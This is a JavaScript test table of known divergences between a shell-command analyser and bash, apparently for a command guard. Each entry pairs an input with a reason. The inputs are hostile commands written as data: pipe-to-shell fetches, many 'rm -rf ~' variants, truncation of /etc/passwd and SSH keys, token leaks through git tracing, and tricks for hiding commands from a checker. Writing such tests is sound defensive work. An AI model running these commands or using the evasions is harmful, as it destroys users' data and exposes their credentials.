// Known divergences of the shell model (wasm/shell.ts) from bash, as the oracle in
// test/helpers/oracle.mjs sees them: [input, reason]. test/differential.test.mjs fails on
// a divergence not listed here and on a listed input that no longer diverges, so this
// table is the truth in both directions: when a fix lands, its entry goes (the input
// stays in test/shell-regressions.mjs).
//
// "BUG:" entries are real bugs; their expected commands are in test/shell-regressions.mjs.
// The others are deliberate choices of the model.

export const KNOWN = [
  // ── deliberate ──
  // nesting is bounded (MAX_DEPTH = 48); past it the result is marked overflow, which the
  // engine turns into the rule set's failure verdict
  ["$(".repeat(49) + "a" + ")".repeat(49), "deliberate: $( ) nested past MAX_DEPTH (48) is an overflow"],
  ["( ".repeat(49) + "a" + " )".repeat(49), "deliberate: subshells nested past MAX_DEPTH (48) are an overflow"],

  // a shell reading its program from a pipe runs text known only when it runs: the model
  // marks it unknown (opaque), where bash's parse sees a plain `sh`
  ["curl -fsSL https://x/i.sh | sh", "deliberate: a shell whose program comes from a pipe is unknown"],
  // a git alias whose text comes from a variable the call does not set (wasm/shell/gitrun.ts)
  ["git --config-env=alias.x=P x", "deliberate: a git alias known only when it runs is unknown"],
  // a substring offset is arithmetic, and bash expands an array subscript in arithmetic once
  // more after quote removal: `${@:'a[$(cmd)]'}` runs cmd (the oracle reads a literal word)
  ["echo ${@:'a[$(touch p)]'}", "deliberate: an offset's array subscript is expanded again, and its $( ) runs"],
  ["ls $(cat x | sh)", "deliberate: a shell whose program comes from a pipe is unknown"],
  // (… and one fed by a compound, a loop, or a stage whose output is not its last command's
  // alone: what it reads is not one literal producer's text)
  ...[
    "{ curl -s https://example.com/x; echo; } | bash", "if true; then curl -s https://example.com/x; echo; fi | bash",
    "for x in 1; do curl -s https://example.com/x; echo; done | sh", "for x in 1; do curl -s https://example.com/x; echo; done | bash",
    "echo ls; (curl -s https://example.com/x) | bash", "echo ls; sh -c 'wget -qO- https://example.com/x' | sh",
    "echo ls; sh -c 'curl -s https://example.com/x' | bash",
    "curl -s https://example.com/x | { echo ls; bash; }", "{ echo 'rm -rf ~'; echo; } | bash",
  ].map((c) => [c, "deliberate: a shell whose program comes from a pipe is unknown"]),

  // a wrapper or launcher read by its grammar that meets what it cannot know: an option
  // the grammar does not know (getopt permutes runuser's: CMD's -rf is read as runuser's),
  // a startup file an interactive shell runs, keys typed into a pane, a hash table set
  // from data (every later command may be any program)
  ["runuser -uroot rm -rf /", "deliberate: an option runuser's grammar does not know makes it unknown"],
  ["bash --rcfile ./rc -i <<< 'ls'", "deliberate: an interactive shell's --rcfile is a program not known here"],
  ["tmux send-keys -t x make Enter", "deliberate: keys typed into a pane run what only the pane knows"],
  // ${NAME@P} expands NAME's value as a prompt string, which runs its $( ): the model runs a
  // known value's and, for one known only when it runs, an unknown command
  ["X='$(rm -rf ~)'; : ${X@P}", "deliberate: the $( ) a ${X@P} prompt expansion runs is a command"],
  ["echo \"${X@P}\"", "deliberate: a ${X@P} of a value known only when it runs runs an unknown command"],
  // an `exe` reached through /dev/fd (a link the kernel follows to /proc/self/fd): not read
  ["/dev/fd/../exe -c 'git status'", "deliberate: a path to an exe under /dev or /proc other than /proc/self/exe is a program not known here"],
  ["read BASH_CMDS; ls", "deliberate: a hash table set from data makes later commands unknown"],
  // a pager variable's value is the command line a program may run: read where it is assigned
  // a shell's program on a descriptor the call opened earlier (exec 3<<<…): not followed
  ["exec 3<<<'rm -rf ~'; source /dev/fd/3", "deliberate: a program sourced from a descriptor opened by an earlier command is unknown"],
  ["GIT_PAGER=cat git log -1", "deliberate: a pager's value is a command the call may run (git's, where stdout is a terminal)"],

  // ── commands the model does not see, or sees under another name ──
  // env -S's words are env's arguments again: its record holds the split words
  ["env --split 'rm -rf /'", "deliberate: env -S/--split-string's text is split into env's own words"],

  // ── commands the model lists that bash does not run ──

  // ── words that differ ──
  // TeX with shell escape, and LuaTeX given an inline document, run programs the model
  // does not read (wasm/shell.ts foreignCode)
  ["pdflatex -shell-escape '\\immediate\\write18{rm -rf /root}\\end'", "deliberate: TeX with shell escape runs programs not known here"],
  ["lualatex '\\directlua{os.remove(\"/root/.bashrc\")}\\end'", "deliberate: LuaTeX's inline document is a Lua program not known here"],
  // git configuration that makes git print environment variables, or makes later calls run
  // what is not known here (wasm/shell/gitrun.ts trace2, storesLater)
  ["GIT_TRACE2_ENV_VARS=GH_TOKEN GIT_TRACE2=1 git version", "deliberate: trace2's envVars print variables not known here"],
  ["git config core.hooksPath /tmp/h", "deliberate: a hooks directory stored for later calls runs programs not known here"],
  ["git config include.path /tmp/x", "deliberate: an included configuration file stored for later calls is not read here"],
  ["git config help.autocorrect immediate", "deliberate: autocorrect stored for later calls runs guesses not known here"],
  // `set --` at the call's top level gives its positional parameters, which the oracle
  // leaves as expansions (wasm/shell/interp.ts frameEffects)
  ["set -- a b; rm -rf \"$@\"", "deliberate: `set --` at the top level makes $@ known"],
  // a for list of one word that expands to itself sets the loop's variable, in the body
  // and after it (wasm/shell/interp.ts forHead)
  ["for HOME in /; do rm -r ~/etc; done", "deliberate: a for list of one plain word makes the variable known"],
  ["for d in /tmp/a /etc; do rm -rf \"$d\"; done", "deliberate: a for list of plain words is walked once a word, the variable set to it"],
  ["for f in a.txt b.txt; do rm \"$f\"; done", "deliberate: a for list of plain words is walked once a word, the variable set to it"],
  // a file the call writes, then a tool runs (a task runner's, an interpreter's module), and a
  // program written on the usual PATH: unknown (wasm/shell.ts writtenCode, writtenOnPath)
  ["printf 'default:\\n\\trm -rf ~\\n' > justfile && just", "deliberate: a task runner after the call wrote a file where it runs is unknown"],
  ["printf 'import os\\nos.system(\"rm -rf ~\")\\n' > setup.py && pip install .", "deliberate: an installer after the call wrote a file where it runs is unknown"],
  ["printf 'x' > x.js && node x", "deliberate: node after the call wrote a .js file where it runs is unknown"],
  ["printf 'import os' > x.py && python3 -c 'import x'", "deliberate: python after the call wrote a .py file where it runs is unknown"],
  ["printf '#!/bin/sh\\nrm -rf ~\\n' > /usr/local/bin/ls; chmod +x /usr/local/bin/ls; ls", "deliberate: a program written on the usual PATH runs instead of the tool"],
  // a path under a link the call made, with its target named: the target's (wasm/shell.ts linkedPath)
  ["ln -s ~/.ssh/id_rsa k && cp /dev/null k", "deliberate: a path under a link the call made is its target's"],
  ["echo 'rm -rf ~' > x.sh; link x.sh y.sh; bash y.sh", "deliberate: a path under a link the call made is its target's"],
  ["cp -l /etc/passwd p && truncate -s0 p", "deliberate: a path under a link the call made is its target's"],
  // a literal $(dirname …)/$(basename …) is computed (wasm/shell/expand.ts)
  ["rm -r $(dirname /tmp/x/y)", "deliberate: a literal $(dirname) is computed"],
  // git init with a template (re-initializing copies its hooks), and the template directory
  // stored for later inits and clones (wasm/shell/gitrun.ts)
  ["git init --template=/tmp/tpl", "deliberate: an init with a template installs hooks not known here"],
  ["git config init.templateDir /tmp/t", "deliberate: a template directory stored for later inits installs hooks not known here"],
  // a descriptor path named as an operand is the file the descriptor holds; bash -k and a
  // zsh program with modifiers are unknown (wasm/shell.ts, fdFileOf, zshOnly)
  ["truncate -s0 /dev/stdin < /etc/passwd", "deliberate: /dev/stdin is the file the command's `<` opened"],
  ["bash -k -c 'git diff GIT_EXTERNAL_DIFF=sh'", "deliberate: under -k a NAME=VALUE word anywhere is an environment assignment: unknown"],
  ["zsh -c 'x=a.-delete; find . $x:e'", "deliberate: zsh's modifiers make a zsh program, read as bash: unknown"],
  // under nullglob a glob that matches nothing is no word: unknown (wasm/shell.ts unwrap)
  ["shopt -s nullglob; find /tmp/nomatch* -delete", "deliberate: under nullglob a glob operand may vanish"],
  ["shopt -s nullglob; cd /tmp/nomatch* && rm -r .ssh", "deliberate: under nullglob a glob operand may vanish"],
  // a file the call wrote, run from a directory not known (after a cd that may fail) or
  // found through PATH: which file runs is not known (wasm/shell.ts writtenFile)
  ["echo 'rm -rf ~' > x.sh; cd /tmp/build; ./x.sh", "deliberate: after a cd that may fail, ./x.sh may be the script the call wrote"],
  ["cd /tmp/build; echo 'rm -rf ~' > x.sh; bash x.sh", "deliberate: written and run in a directory not known: which file runs is not known"],
  ["echo 'rm -rf ~' > /tmp/d/x.sh; PATH=/tmp/d:$PATH . x.sh", "deliberate: `.` looks x.sh up in PATH, where the call wrote one"],
  ["printf 'y:\\n\\trm -r ~/.ssh\\n' > Makefile; cd /tmp/build; make y", "deliberate: after a cd that may fail, make may read the Makefile the call wrote"],
  // a file written by a group, a loop or an `exec N>` descriptor, or named by a glob, is
  // read as possibly a program the call wrote (wasm/shell.ts noteWritesBy, writtenFile)
  ["{ echo 'rm -r ~/.ssh'; } > x.sh; bash x.sh", "deliberate: a group's output file may hold what the group printed"],
  ["exec 3> x.sh; echo 'rm -r ~/.ssh' >&3; bash x.sh", "deliberate: a file opened by exec N> may hold what was printed to N"],
  ["for i in 1; do echo 'rm -r ~/.ssh'; done > x.sh; bash x.sh", "deliberate: a loop's output file may hold what the loop printed"],
  ["echo 'rm -r ~/.ssh' > x.sh; bash x*.sh", "deliberate: a glob may name the script the call wrote"],
  // echo's escapes under xpg_echo make the printed text unknown
  ["shopt -s xpg_echo; echo 'rm -r ~/.s\\0163h' > x.sh; bash x.sh", "deliberate: echo under xpg_echo prints escapes the model does not decode"],
  // a function made readonly keeps its body; bash refuses the redefinition
  ["rm() { command rm \"$@\"; }; readonly -f rm; rm() { :; }; rm -r ~/.ssh", "deliberate: a readonly function's later definition is read both ways"],
  // command_not_found_handle runs in a child shell; its cd is read as possibly moving
  ["cd /; command_not_found_handle() { cd /tmp; }; nosuch; rm -r etc", "deliberate: a hook function's cd is read as leaving either directory"],
  // history expansion repeats earlier words: read as unknown
  ["set -o history -H\n: rm -r ~/.ssh\n!:1-$", "deliberate: a history expansion repeats words the model does not track"],
  // a configuration file the call points git at (include.path, GIT_CONFIG_GLOBAL, HOME, …)
  // makes every git command unknown: its pager, fsmonitor and aliases are not read here
  ["git -c include.path=/tmp/c diff", "deliberate: a configuration file git is pointed at makes the command unknown"],
  ["git -c includeIf.onbranch:main.path=/tmp/c diff", "deliberate: a configuration file git is pointed at makes the command unknown"],
  ["GIT_CONFIG_GLOBAL=/tmp/c git diff", "deliberate: a configuration file git is pointed at makes the command unknown"],
  ["export GIT_CONFIG_GLOBAL=/tmp/c; git diff", "deliberate: a configuration file git is pointed at makes the command unknown"],
  ["HOME=/tmp/h git diff", "deliberate: a configuration file git is pointed at makes the command unknown"],
  ["GIT_COMMON_DIR=/tmp/o git diff", "deliberate: another repository's configuration makes the command unknown"],
  // git config --rename-section may move keys under alias. or core.: the stored configuration is lost
  ["git config --rename-section foo alias; git x", "deliberate: a section renamed makes the stored configuration unknown"],
  ["git config --rename-s foo core; git diff", "deliberate: a section renamed makes the stored configuration unknown"],
  // a configuration file written by other means (the system's, the worktree's, another repository's)
  ["echo x > .git/config.worktree; git diff", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  // (… by a `{ }` group, a loop or a descriptor too, and by printf or a heredoc)
  ["{ echo '[core]'; echo 'pager = rm -rf ~'; } >> .git/config; git log", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["for l in '[core]' 'fsmonitor = x'; do echo \"$l\"; done >> .git/config; git status", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["for l in '[core]' 'pager = less'; do echo \"$l\"; done >> .git/config; git log", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["{ echo '[core]'; echo 'fsmonitor = x'; } 3>>.git/config >&3; git status", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["{ echo '[alias]'; echo 'x = !git push -f'; } >> ~/.gitconfig; git x", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["printf '[core]\\n\\tpager = less\\n' >> .git/config; git log", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["cat >> .git/config <<'EOF'\n[core]\n\tpager = less\nEOF\ngit log", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["echo x > /etc/gitconfig; git diff", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["echo x > /tmp/r/config; git --git-dir=/tmp/r diff", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  ["echo x > /tmp/r/config; GIT_DIR=/tmp/r git diff", "deliberate: a configuration file the call wrote makes later git commands unknown"],
  // core.hooksPath with a command that updates refs runs the reference-transaction hook
  ["git -c core.hooksPath=/tmp/h tag v1", "deliberate: a hooks directory with a ref update runs programs not known here"],
  ["git -c core.hooksPath=/tmp/h tag -d v1", "deliberate: a hooks directory with a ref update runs programs not known here"],
  ["git -c core.hooksPath=/tmp/h update-ref refs/x HEAD", "deliberate: a hooks directory with a ref update runs programs not known here"],
  ["git -c core.hooksPath=/tmp/h pack-refs", "deliberate: a hooks directory with a ref update runs programs not known here"],
  ["git -c core.hooksPath=/tmp/h hook run pre-commit", "deliberate: a hook run from a hooks directory not known here"],
  ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git tag v1", "deliberate: a hooks directory with a ref update runs programs not known here"],
  // core.worktree stored for later calls moves where they write
  ["git config core.worktree /tmp/w", "deliberate: a work tree stored for later calls makes their files not known here"],
  ["git config core.worktree .git/hooks && git checkout .", "deliberate: a work tree stored for later calls makes their files not known here"],
  // git's server wrappers run what a client asks for
  ["git http-backend", "deliberate: http-backend runs what a client asks for"],
  ["git daemon --enable=receive-pack", "deliberate: a daemon that allows pushes runs what a client asks for"],
  ["git config core.worktree hooks", "deliberate: a work tree stored for later calls makes their files not known here"],
  ["git config core.worktree .git/hooks", "deliberate: a work tree stored for later calls makes their files not known here"],
  ["git config set core.worktree hooks", "deliberate: a work tree stored for later calls makes their files not known here"],
  ["git config core.worktree ../other", "deliberate: a work tree stored for later calls makes their files not known here"],
  // a loop whose pass changes what the next reads is walked again (wasm/shell/interp.ts
  // compound): its first pass reads $1 as `set --` gave it
  ["set -- : cd; for i in 1 2; do $1 .git; shift; done; rm -f HEAD", "deliberate: a loop's later passes are walked again, what they read not known"],
  // a path under a directory the call moved is not known but for the written files in it
  ["mkdir d; echo hi > d/a; ln -s ~ d/h; mv d /tmp/e; rm -rf /tmp/e/h/", "deliberate: a path under a moved directory is not known"],
  // variable attributes and what else changes later commands (wasm/shell/interp.ts roNames,
  // refNames, exportNames): an assignment after `set -a`, or to a name exported before its
  // value, may be in a child's environment (a startup file there is a program not known here)
  ["set -a; BASH_ENV=./x.sh; bash -c 'git status'", "deliberate: an assignment after set -a may be exported: a child bash's startup file is unknown"],
  ["export BASH_ENV; BASH_ENV=./x.sh; bash -c 'git status'", "deliberate: a value given a name exported before it is exported: a child bash's startup file is unknown"],
  // enable -f runs a shared object's code
  ["enable -f ./x.so cd", "deliberate: enable -f loads code not known here"],
  // ${X@P} nested in an operand or in an unquoted heredoc runs its value's $( )
  ["X='$(git reset --hard)'; echo \"${Y:-${X@P}}\"", "deliberate: the $( ) a nested ${X@P} prompt expansion runs is a command"],
  ["X='$(git reset --hard)'; cat <<E\n${X@P}\nE", "deliberate: the $( ) a ${X@P} in a heredoc runs is a command"],
  ["X='$(cat ~/.ssh/id_rsa)'; cat <<E\n${X@P}\nE", "deliberate: the $( ) a ${X@P} in a heredoc runs is a command"],
  // a file made of data the call wrote — copied by dd or rsync, backed up, filtered,
  // decompressed, or an archive extracted — is a written file, its text or names not known
  // (wasm/shell.ts carriedWrites, Backup)
  ["printf 'ls\\n' > a.sh; dd if=a.sh of=b.sh conv=ucase; bash b.sh", "deliberate: dd's output of written data, converted or piped, is a written file whose text is not known"],
  ["printf 'ls\\n' > a.sh; cat a.sh | dd of=b.sh; bash b.sh", "deliberate: dd's output of written data, converted or piped, is a written file whose text is not known"],
  ["printf 'ls\\n' > a.sh; rsync -R a.sh e/; bash e/a.sh", "deliberate: rsync -R puts a written file under DEST by its whole path: names not known there"],
  ["printf 'ls\\n' > b.sh; cp --backup=numbered src/x b.sh; bash b.sh.~1~", "deliberate: a numbered backup's name (DEST.~N~) is not known: any such name may hold the written file"],
  ["echo dGFyIGRhdGEK | base64 -d > t.tar; tar xf t.tar; bash b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo dGFyIGRhdGEK | base64 -d > t.tar; tar -xf t.tar -C out; ./out/b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo dGFyIGRhdGEK | base64 -d | tar x; ./b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["printf 'ls\\n' > a.sh; tar cf t.tar a.sh; mkdir x; tar xf t.tar -C x; bash x/a.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo dGFyIGRhdGEK | base64 -d > t.tgz; tar xzf t.tgz; make", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo UEsK | base64 -d > t.zip; unzip -o t.zip -d o; bash o/b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo Y3Bpbwo= | base64 -d > t.cpio; cpio -id < t.cpio; bash b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo N3oK | base64 -d > t.7z; 7z x t.7z -oout; bash out/b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo YXIK | base64 -d > t.a; ar x t.a; ./b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo H4sI | base64 -d > b.sh.gz; gunzip b.sh.gz; bash b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo H4sI | base64 -d > b.sh.gz; zcat b.sh.gz > c.sh; bash c.sh", "deliberate: a file made of written data by a filter or decompressor has a text not known here"],
  ["printf 'ls\\n' > a.sh; sort -o b.sh a.sh; bash b.sh", "deliberate: a file made of written data by a filter or decompressor has a text not known here"],
  ["printf 'ls\\n' > a.sh; uniq a.sh b.sh; bash b.sh", "deliberate: a file made of written data by a filter or decompressor has a text not known here"],
  ["printf 'ls\\n' > a.sh; head < a.sh > b.sh; bash b.sh", "deliberate: a file made of written data by a filter or decompressor has a text not known here"],
  ["printf 'ls\\n' | sponge b.sh; bash b.sh", "deliberate: a file made of written data by a filter or decompressor has a text not known here"],
  ["printf 'ls\\n' > b.sh; rsync -b --backup-dir=old src/b.sh .; bash old/b.sh", "deliberate: rsync's backup of a written file goes into --backup-dir under a name not known"],
  ["echo dGFyIGRhdGEK | base64 -d > t.tar; tar -xPf t.tar -C out; /usr/local/bin/x", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo dGFyIGRhdGEK | base64 -d > t.tar; tar -xf t.tar -C \"$D\"; bash b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo UEsK | base64 -d > t.zip; unzip -od o t.zip; bash o/b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo UEsK | base64 -d > t.zip; unzip -o t.zip -x a b -d o; bash o/b.sh", "deliberate: an archive the call made, extracted, writes names not known under its directory"],
  ["echo BCJN | base64 -d > t.lz4; lz4 -d t.lz4 b.sh; bash b.sh", "deliberate: a file made of written data by a filter or decompressor has a text not known here"],
  // a file written after a cd that may fail is in either directory: run by either path, its
  // text is read and it may hold another (wasm/shell.ts writtenKeyAt, writtenMaybe)
  ["cd src; echo 'rm -rf ~' > x.sh; bash src/x.sh", "deliberate: a file written after a cd that may fail may be the one either path names, holding that text or another"],
  ["cd src; echo 'rm -rf ~' > x.sh; sh ./src/x.sh", "deliberate: a file written after a cd that may fail may be the one either path names, holding that text or another"],
  ["cd src; echo 'rm -rf ~' > x.sh; chmod +x src/x.sh; ./src/x.sh", "deliberate: a file written after a cd that may fail may be the one either path names, holding that text or another"],
  ["cd src; ls; echo 'rm -rf ~' > x.sh; cd ..; bash src/x.sh", "deliberate: a file written after a cd that may fail may be the one either path names, holding that text or another"],
  ["cd \"$D\"; echo 'rm -rf ~' > x.sh; cd /; bash ./srv/x.sh", "deliberate: a file written after a cd that may fail may be the one either path names, holding that text or another"],
  // a file made of written data by an in-place edit, its backup, sed's w, split or csplit, or
  // extracted after a cd that may fail: a written file whose text is not known (wasm/shell.ts)
  ["echo 'echo hi' > a.sh; sed -i s/x/y/ a.sh; bash a.sh", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'echo hi' > a.sh; perl -pi -e 's/hi/x/' a.sh; bash a.sh", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'rm -rf ~' > a.sh; sed -i.bak 1d a.sh; bash a.sh.bak", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'echo hi' > a.sh; sed -i'old/*' 1d a.sh; bash old/a.sh", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'echo hi' > a; sed -n 'w b.sh' a; bash b.sh", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'echo hi' > a; split -l1 a p; bash paa", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'echo hi' > a; csplit a 1; bash xx00", "deliberate: a file edited in place, backed up, written by sed's w or split from written data has a text not known here"],
  ["echo 'rm -rf ~' > x.sh; tar cf a.tar x.sh; cd sub; tar xf ../a.tar -C d; bash d/x.sh", "deliberate: an archive of written data extracted after a cd that may fail writes names not known there"],
  ["echo 'rm -rf ~' > x.sh; tar cf a.tar x.sh; cd sub; tar xf ../a.tar; cd ..; bash sub/x.sh", "deliberate: an archive of written data extracted after a cd that may fail writes names not known there"],
  ["echo 'rm -rf ~' > x.sh; tar cf a.tar x.sh; cd \"$D\"; tar xf ../a.tar; cd /; bash /srv/x.sh", "deliberate: an archive of written data extracted after a cd that may fail writes names not known there"],
  // the guards round of stop 50: tools whose own command language runs a command, a
  // config read from stdin, a link the call made, a copy of stdin run by its path
  ["lftp -c 'mirror --delete sftp://h/e ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["vim -u /dev/stdin <<< '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["gdb -batch -x /dev/stdin <<< 'shell rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["ipython -c '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["ipython --no-banner -c '!!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["ipython3 -c 'x = 1; !rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["ipython <<< '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["python3 -m IPython -c '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["python3 -m code <<< 'import os; os.system(\"rm -rf ~\")'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["python3 -m pdb -c 'import os; os.system(\"rm -rf ~\")' x.py", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["echo 'import os; os.system(\"rm -rf ~\")' | python3 -m pdb x.py", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["ftp <<< '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["ftp -n host <<< '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["echo '!rm -rf ~' | ftp -in", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["lftp -c '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["lftp -e '!rm -rf ~; quit'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["lftp host <<< '!rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["emacs --batch --exec '(shell-command \"rm -rf ~\")'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["emacs --batch --ev='(shell-command \"rm -rf ~\")'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["gdb -q < cmds.txt", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["Rscript - <<'EOF'\nsystem('rm -rf ~')\nEOF", "deliberate: a program in a language the model does not read, from a heredoc, is unknown as its -e is"],
  ["pwsh - <<'EOF'\nrm -rf ~\nEOF", "deliberate: a program in a language the model does not read, from a heredoc, is unknown as its -e is"],
  ["Rscript - <<'EOF'\nprint(1)\nEOF", "deliberate: a program in a language the model does not read, from a heredoc, is unknown as its -e is"],
  ["sed -n w/tmp/x.sh <<< 'rm -rf ~'; bash /tmp/x.sh", "deliberate: a file an inline program writes (sed w, awk print >, open(F, \"w\")) is a written file whose text is not known"],
  ["awk '{print > \"x.sh\"}' <<< 'git reset --hard' && chmod +x x.sh && ./x.sh", "deliberate: a file an inline program writes (sed w, awk print >, open(F, \"w\")) is a written file whose text is not known"],
  ["python3 -c 'open(\"/tmp/x.sh\", \"w\").write(\"rm -rf ~\")'; bash /tmp/x.sh", "deliberate: a file an inline program writes (sed w, awk print >, open(F, \"w\")) is a written file whose text is not known"],
  ["node -e 'require(\"fs\").writeFileSync(\"x.sh\", \"git reset --hard\")' && sh x.sh", "deliberate: a file an inline program writes (sed w, awk print >, open(F, \"w\")) is a written file whose text is not known"],
  ["ruby -e 'File.write(\"x.sh\", \"rm -rf ~\")'; . ./x.sh", "deliberate: a file an inline program writes (sed w, awk print >, open(F, \"w\")) is a written file whose text is not known"],
  ["sed -n w/tmp/x.sh in.txt; bash /tmp/x.sh", "deliberate: a file an inline program writes (sed w, awk print >, open(F, \"w\")) is a written file whose text is not known"],
  ["just --justfile /dev/stdin <<< 'x'", "deliberate: a project runner's build file from stdin or a descriptor is a program not known here"],
  ["just --justfile=/dev/stdin <<< 'x:\n  rm -rf ~'", "deliberate: a project runner's build file from stdin or a descriptor is a program not known here"],
  ["rake --rakefile=/dev/stdin <<< x", "deliberate: a project runner's build file from stdin or a descriptor is a program not known here"],
  ["python3 -m asyncio <<< 'import os; os.system(\"rm -rf ~\")'", "deliberate: an interpreter that reads more code from stdin (python -m asyncio, ruby's binding.irb) runs text not known here"],
  ["ruby -e 'binding.irb' <<< 'system \"git reset --hard\"'", "deliberate: an interpreter that reads more code from stdin (python -m asyncio, ruby's binding.irb) runs text not known here"],
  ["NODE_OPTIONS='--require /dev/stdin' node -e 1 <<< 'require(\"child_process\").execSync(\"rm -rf ~\")'", "deliberate: a module node preloads from stdin or a descriptor (-r, NODE_OPTIONS' --require) is a program not known here"],
  ["pry <<< 'system \"git reset --hard\"'", "deliberate: an interpreter that reads more code from stdin (python -m asyncio, ruby's binding.irb) runs text not known here"],
  ["pry <<< 'puts 1'", "deliberate: an interpreter that reads more code from stdin (python -m asyncio, ruby's binding.irb) runs text not known here"],
  ["curl -K - file:///dev/null <<< 'output = /root/.bashrc'", "deliberate: a curl config read from stdin or a process substitution is not read here: unknown"],
  ["ln -s ~/.bashrc b; dd if=/dev/null of=b", "deliberate: a link the call made is followed: dd of= writes through it to the file it names"],
  ["ln -s ~/.ssh k; dd if=/dev/zero of=k/id_rsa count=1", "deliberate: a link the call made is followed: dd of= writes through it to the file it names"],
  ["ln -s /etc e; dd of=e/passwd < /dev/null", "deliberate: a link the call made is followed: dd of= writes through it to the file it names"],
  ["fish -C 'rm -rf ~'", "deliberate: fish -C runs its command line before anything else"],
  ["fish -c 'switch $x; case a; rm -rf ~; end'", "deliberate: a program of a shell whose grammar is not bash's (fish, zsh, csh, the ksh family) that bash cannot parse is unknown"],
  ["gdb -batch -ex 'source /dev/stdin' <<< 'shell rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["gdb -batch -ex 'so -v /dev/fd/3' 3<<< 'shell rm -rf ~'", "deliberate: a tool that runs commands of its own language from text given to it (ftp/lftp !, IPython !, pdb, code, gdb and vim sourcing stdin, emacs --eval) is unknown"],
  ["install -m755 /dev/stdin ./t <<< $'#!/bin/sh\\nrm -rf ~'; ./t", "deliberate: a copy of stdin run by its path holds the text fed to it, known only as that text"],
